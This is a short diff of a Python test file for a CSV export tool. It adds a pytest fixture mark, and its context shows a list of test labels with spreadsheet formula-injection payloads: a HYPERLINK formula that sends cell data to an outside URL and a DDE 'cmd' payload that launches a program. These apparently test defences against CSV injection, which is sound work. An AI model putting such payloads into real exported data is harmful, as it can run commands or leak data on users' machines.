@@ -14,6 +14,8 @@ import discreet as dp
 from discreet.cli import app
 from discreet.releases.frames import for_csv
 
+pytestmark = pytest.mark.usefixtures("one_artist")
+
 LABELS = [
     '=HYPERLINK("https://example.org/?"&A1)',
     "+1+cmd|' /C calc'!A0",
